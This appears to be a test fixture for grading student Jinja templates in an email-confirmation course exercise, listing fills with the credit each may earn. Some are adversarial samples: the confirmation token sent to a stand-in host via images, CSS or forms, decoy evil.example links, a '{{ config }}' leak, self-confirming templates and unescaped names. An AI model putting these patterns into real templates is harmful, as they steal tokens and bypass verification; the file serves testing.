"""Fills of templates with the shares that they may earn, for test_fair_shares."""

from confirmlab.course import solutions

REF = solutions.finished()
LINK = '{{ url_for("auth.confirm", token=token, _external=True) }}'
FORM = (
    '<form method="post" action="{{ url_for("auth.resend") }}">\n'
    '<input type="hidden" name="csrf_token" value="{{ csrf_token() }}">\n'
    "<button>%s</button>\n</form>"
)
MAIL = "<p>Dear {{ user.name }},</p>\n<p>Please confirm your address: %s</p>"
ASKING = "Dear {{ user.name }},\n\nplease confirm your address:\n"
DEAD = "http://nowhere.example/"
UNLESS = "{%% if %s %%}%s{%% else %%}%s{%% endif %%}"
UNLIKE = {
    "at 127.0.0.1": 'request.host.startswith("127.0.0.1")',
    "at localhost": 'request.host.startswith("localhost")',
    "from this machine": 'request.remote_addr == "127.0.0.1"',
    "for gmail.com": '"@gmail." in user.email',
    "for example.com": '"@example.com" in user.email',
}
LOCKED = 'e => e.target.querySelector("button").disabled = true'

# Style sheets before the reference that leave its link, or its button, in sight.
SHEETS = {
    "a colour for dark mode": "@media (prefers-color-scheme: dark) { %s { color: #f5f5f5 } }",
    "nothing to click on paper": "@media print { %s { display: none } }",
    "a narrow window": "@media screen and (max-width: 600px) { %s { font-size: 0 } }",
}
HIDING = {
    "everywhere": "@media all { a { display: none } }",
    "on screens": "@media only screen { a { display: none } }",
    "in light mode": "@media (prefers-color-scheme: light) { a { display: none } }",
    "but on paper": "@media not print { a { display: none } }",
    "by the last rule": "a { display: inline } a { display: none }",
    "by an important rule": "a { display: none !important } .x, a { display: inline }",
}
PAINTED = {
    "a gradient": f'<a style="background-image:linear-gradient(#4a90d9,#2a5ca8);color:white" '
    f'href="{LINK}">Confirm my address</a>',
    "a picture": '<table><tr><td background="https://pigeons.example/sky.png">'
    f'<a style="color:#fff" href="{LINK}">Confirm my address</a></td></tr></table>',
}
ELSEWHERE = {  # ways in which an HTML mail may send the token elsewhere
    "backwards": '<img alt="A pigeon" src="https://t.example/{{ token[::-1] }}.png">',
    "by a style": "<style>p { background: url(https://t.example/{{ token }}) }</style>",
    "by a form": '<form action="https://t.example" method="post">'
    '<input type="hidden" name="t" value="{{ token }}"><button>Confirm</button></form>',
    "in hex": '<img alt="A pigeon" src="https://t.example/{{ token.encode().hex() }}.png">',
    "in small parts": '<img alt="A pigeon" src="https://t.example/?'
    '{% for part in token|batch(12) %}{{ part|join }}.{% endfor %}">',
}
HELPING = {  # actions that a page may do by itself
    "looks again each minute": '<meta http-equiv="refresh" content="60">',
    "loads again": "<script>setTimeout(() => location.reload(), 30000)</script>",
    "takes one press only": "<script>"
    f'document.querySelector("main form").addEventListener("submit", {LOCKED})</script>',
    "greys its button": "<script>document.querySelector('button[type=submit]').onclick = "
    "function (event) { setTimeout(() => { event.target.disabled = true }) }</script>",
    "names a handler": f'<script>document.querySelector("main form").onsubmit = {LOCKED}</script>',
}
PRESSING = {
    "in two halves": '<script>document.forms[1]["sub" + "mit"]()</script>',
    "by an event": '<script>document.querySelector("main button").dispatchEvent('
    'new MouseEvent("cl" + "ick"))</script>',
    "by a refresh": '<meta http-equiv="refresh" content="1;/auth/logout">',
}
JSON = """<script type="application/ld+json">
{"@context": "http://schema.org", "@type": "EmailMessage", "description": "Click to confirm"}
</script>"""
WORDS = {  # a text, and the words on its button
    "Chinese": ("我们已将确认信寄到 %s。请点击信中的链接，激活您的账户。", "重发"),
    "Japanese": ("%s に確認メールを送りました。メールのリンクを開いてください。", "再送"),
    "Thai": ("เราส่งอีเมลไปที่ %s แล้ว กรุณาคลิกลิงก์ในอีเมลเพื่อยืนยันที่อยู่ของคุณ", "ส่งอีกครั้ง"),
    "Hindi": ("हमने %s पर एक पत्र भेजा है। कृपया उसमें दिए गए लिंक को खोलें।", "फिर से भेजें"),
    "Indonesian": ("Kami sudah kirim surat ke %s. Silakan buka tautan di surat itu.", "Kirim lagi"),
}
LETTERS = {  # a greeting without a name, and a request
    "Chinese": ("您好，", "有人用这个地址注册了飞鸽俱乐部。请点击下面的链接，确认您的地址："),
    "Japanese": (
        "こんにちは、",
        "このアドレスで登録がありました。次のリンクを開いて、確認してください。",
    ),
    "Thai": ("สวัสดีค่ะ", "กรุณาคลิกลิงก์ด้านล่างเพื่อยืนยันที่อยู่อีเมลของคุณ"),
    "Hindi": ("नमस्ते।", "कृपया अपने पते की पुष्टि करने के लिए इस लिंक को खोलें।"),
    "Korean": ("안녕하세요.", "아래 링크를 눌러 주소를 확인해 주세요."),
    "Arabic": ("مرحبا،", "يرجى فتح الرابط التالي لتأكيد عنوان بريدك"),
    "Indonesian": ("Halo,", "Silakan konfirmasi alamat Anda melalui tautan ini"),
}
CONFIRMS = "{% set _ = user.confirm(token) %}"
COMMITS = "{% set _ = user.query.session.commit() %}"
DECOY = f'<p>Hi,</p><p><a href="%s">%s</a></p><p><a href="{LINK}">%s</a></p>'
FRONT = '{{ url_for("main.index", _external=True) }}'
AT_HOME = '{%% if not request.host.startswith("127.0.0.1") %%}%s{%% endif %%}'
WELCOME = '{{ current_user.name%s if current_user.is_authenticated else "stranger" }}'
PAGE = '{%% extends "base.html" %%}\n\n{%% block content %%}\n%s\n{%% endblock %%}'


def _around(blank, where):
    return PAGE.replace("base.html", where) % REF[blank]


# Exercise, a name for the fill, the share that it may earn (lowest and highest), its text.
FILLS = [
    ("confirm-html", "an address to copy", 0.2, 0.4, MAIL % LINK),
    ("confirm-html", "a faint address", 0, 0, MAIL % f'<i style="opacity:0">{LINK}</i>'),
    (
        *("confirm-html", "a later rule of its sheet", 1, 1),
        "<style>a { color: #2a6f97 } "
        ".button { background: #2a6f97; color: #fff; padding: 12px }</style>\n"
        + MAIL
        % f'<a class="button" href="{LINK}">Confirm my address</a>',
    ),
    (
        *("unconfirmed-page", "a later rule of its sheet", 1, 1),
        "<style>* { color: #333 } button { background: #333; color: #fff }</style>\n"
        + REF["unconfirmed-page"],
    ),
    *(
        (exercise, name, 1, 1, f"<style>{sheet % tag}</style>\n{REF[exercise]}")
        for name, sheet in SHEETS.items()
        for exercise, tag in (("confirm-html", "a"), ("unconfirmed-page", "form"))
    ),
    *(
        (
            "confirm-html",
            f"a link hidden {name}",
            0,
            0,
            f"<style>{sheet}</style>{REF['confirm-html']}",
        )
        for name, sheet in HIDING.items()
    ),
    *(("confirm-html", f"painted with {name}", 1, 1, MAIL % how) for name, how in PAINTED.items()),
    (
        *("confirm-html", "a thin line as a picture", 1, 1),
        REF["confirm-html"]
        + '<img src="https://pigeons.example/line.png" width="600" height="2" alt="">',
    ),
    (
        *("confirm-html", "a picture without a gap below", 1, 1),
        '<div style="font-size:0"><img alt="" src="https://pigeons.example/head.png"></div>'
        + REF["confirm-html"],
    ),
    *(
        ("confirm-html", f"the token goes elsewhere {name}", 0.3, 0.5, REF["confirm-html"] + more)
        for name, more in ELSEWHERE.items()
    ),
    (
        *("confirm-txt", "the token goes elsewhere backwards", 0.3, 0.5),
        REF["confirm-txt"] + "\nMore: https://t.example/?{{ token[::-1] }}",
    ),
    (
        *("confirm-html", "a picture with a long name", 1, 1),
        REF["confirm-html"]
        + '<img alt="A pigeon" src="https://cdn.example/Zx81QkLmN7pWv3Rt9sYbC2dE.png">',
    ),
    *(
        ("unconfirmed-page", name, 1, 1, REF["unconfirmed-page"] + more)
        for name, more in HELPING.items()
    ),
    *(
        ("unconfirmed-page", f"presses {name}", 0.4, 0.8, REF["unconfirmed-page"] + more)
        for name, more in PRESSING.items()
    ),
    ("confirm-html", "data for a mail program", 1, 1, REF["confirm-html"] + JSON),
    (
        *("confirm-html", "a name that is empty", 0.7, 0.95),
        f'<p>Hi {{{{ username }}}},</p>\n<p><a href="{LINK}">Confirm my address</a></p>',
    ),
    *(
        (
            *("unconfirmed-page", f"in {name}", 1, 1),
            f"<p>{text % '{{ current_user.email }}'}</p>\n{FORM % label}",
        )
        for name, (text, label) in WORDS.items()
    ),
    *(
        ("confirm-txt", f"in {name}", 1, 1, f"{greeting}\n\n{text}\n\n{LINK}")
        for name, (greeting, text) in LETTERS.items()
    ),
    *(
        ("confirm-txt", f"no link {where}", 0.2, 0.4, ASKING + UNLESS % (sign, DEAD, LINK))
        for where, sign in UNLIKE.items()
    ),
    *(
        (
            *("confirm-html", f"{name} {where}", 0.2, 0.5),
            MAIL % UNLESS % (sign, instead, f'<a href="{LINK}">Confirm my address</a>'),
        )
        for where, sign in UNLIKE.items()
        for name, instead in {
            "no link": "",
            "another site": f'<a href="{DEAD}auth/confirm/{{{{ token }}}}">Confirm my address</a>',
        }.items()
    ),
    *(
        ("confirm-txt", name, least, most, text)
        for name, least, most, text in (
            ("a greeting and a link", 0.4, 0.7, f"Dear {{{{ user.name }}}},\n\n{LINK}"),
            ("a link alone", 0.2, 0.55, LINK),
            (
                *("a name that is empty", 0.7, 0.95),
                f"Hi {{{{ username }}}},\n\nplease open this address to confirm yours:\n{LINK}",
            ),
            ("the placeholder left", 0.5, 0.7, f"{ASKING}(Your text here: ask.)\n{LINK}"),
            ("greetings without a mark", 1, 1, f"Greetings, pigeon friend\n\nOpen this: {LINK}"),
            ("a greeting and more in a line", 1, 1, f"Hello! Please open this address: {LINK}"),
        )
    ),
    (
        *("confirm-txt", "a mark of China behind the link", 1, 1),
        f"您好，\n\n有人用这个地址注册了飞鸽俱乐部。请点击链接：{LINK}。",
    ),
    (
        *("unconfirmed-page", "gibberish", 0, 0.7),
        f"<p>qwer asdf zxcv uiop hjkl {{{{ current_user.email }}}}</p>\n{FORM % '??'}",
    ),
    (
        *("welcome-line", "no stranger any more", 0.8, 1),
        "{% if current_user.is_authenticated %}Welcome back, {{ current_user.name }}, you are no "
        "stranger here.{% else %}Welcome, stranger.{% endif %}",
    ),
    *(
        ("welcome-line", name, 0.8, 1, f"<p>Welcome, {WELCOME % how}.</p>")
        for name, how in {
            "by the first name": ".split()[0]",
            "in capitals": "|upper",
            "with one capital": "|capitalize",
        }.items()
    ),
    (
        *("welcome-line", "a stranger with a name", 0, 0.3),
        '<p class="lead">Welcome, stranger {{ current_user.name }}.</p>',
    ),
    (
        *("welcome-line", "a name that strangers lack", 0.5, 0.8),
        "<p>Welcome, {{ current_user.name.upper() }}.</p>",
    ),
    (
        *("welcome-line", "the settings for strangers", 0, 0.2),
        REF["welcome-line"]
        + "{% if not current_user.is_authenticated %}<!-- {{ config }} -->{% endif %}",
    ),
    *(
        (blank, "the whole template", 1, 1, _around(blank, where))
        for blank, where in {
            "welcome-line": "base.html",
            "unconfirmed-page": "base.html",
            "confirm-html": "mail/layout.html",
        }.items()
    ),
    *(
        ("confirm-html", f"a decoy: {name}", 0.2, 0.4, DECOY % how)
        for name, how in {
            "the same words": ("http://evil.example/", "Confirm my address", "Unsubscribe me"),
            "before the other": ("//evil.example/", "Verify my address", "Confirm"),
        }.items()
    ),
    ("confirm-html", "a link around nothing", 0, 0.3, MAIL % f'<a href="{LINK}"></a> this is it'),
    (
        *("confirm-html", "a link around a picture", 0.8, 1),
        MAIL % f'<a href="{LINK}"><img src="https://pigeons.example/ok.png" alt="Confirm"></a>',
    ),
    (
        *("unconfirmed-page", "all of it in a heading", 0.6, 0.9),
        f"<h2>Please follow the link that we sent to {{{{ current_user.email }}}}.</h2>"
        f"{FORM % 'Send again'}",
    ),
    *(
        ("confirm-html", f"no decoy: {name}", 1, 1, DECOY % how)
        for name, how in {
            "the front page": (FRONT, "Confirm with Pigeon Post", "Yes, that is me"),
            "the club": ("https://pigeons.example/", "Pigeon Post", "Yes, that is me"),
            "a question": ("https://help.example/", "Why should I confirm?", "Confirm"),
        }.items()
    ),
    (
        *("confirm-html", "no decoy: help below", 1, 1),
        REF["confirm-html"] + '<a href="https://help.example">About confirmed addresses</a>',
    ),
    (
        *("confirm-html", "a name that is not escaped", 0.4, 0.5),
        REF["confirm-html"].replace("user.name", "user.name|safe"),
    ),
    (
        *("welcome-line", "a name that is not escaped", 0.4, 0.5),
        f"<p>Welcome, {WELCOME % '|safe'}.</p>",
    ),
    *(
        (blank, "not at home", 0, 0, AT_HOME % REF[blank])
        for blank in ("welcome-line", "unconfirmed-page")
    ),
    (
        *("unconfirmed-page", "confirms its reader", 0, 0),
        REF["unconfirmed-page"]
        + "{% set _ = current_user.confirm(current_user.generate_confirmation_token()) %}"
        + COMMITS.replace("user.", "current_user."),
    ),
    (
        *("unconfirmed-page", "a hidden form", 0.2, 0.4),
        "<p>We have sent a mail to {{ current_user.email }}. Please click the link in it.</p>"
        f"<div hidden>{FORM % 'Send again'}</div>",
    ),
    *(
        (blank, f"confirms its reader{name}", 0, 0.2, f"{CONFIRMS}{more}{REF[blank]}")
        for blank in ("confirm-txt", "confirm-html")
        for name, more in {"": COMMITS, ", and leaves the commit to others": ""}.items()
    ),
]
